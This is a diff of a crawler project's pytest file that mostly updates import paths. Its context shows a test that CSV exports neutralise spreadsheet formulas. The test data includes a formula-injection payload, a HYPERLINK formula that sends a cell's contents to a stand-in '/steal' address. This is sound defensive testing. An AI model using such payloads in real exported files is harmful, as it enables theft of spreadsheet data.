@@ -14,7 +14,7 @@ import pytest
 from click.testing import CliRunner
 
 import storage
-from crawler.cli import main
+from cli.main import main
 from fixtures.site import CATEGORY_PATH
 
 from .conftest import REPO, crawl_command, datasette_client, get_json, rows, start_datasette, stored_count
@@ -153,7 +153,7 @@ def test_csv_export_neutralises_formulas_and_the_other_formats_keep_exact_values
     """A stored entry that begins `=HYPERLINK(...)` (and one that reads as a negative number, and the
     other starts OWASP names) leaves the CSV as text a spreadsheet shows, never runs: a leading `'`.
     Numbers stay numbers; JSON, NDJSON and the SQLite copy keep the stored text exactly."""
-    from crawler.items import Digest, Entry
+    from core.items import Digest, Entry
 
     hostile = [
         '=HYPERLINK("http://127.0.0.1:9/steal?c="&A1,"Read more")',
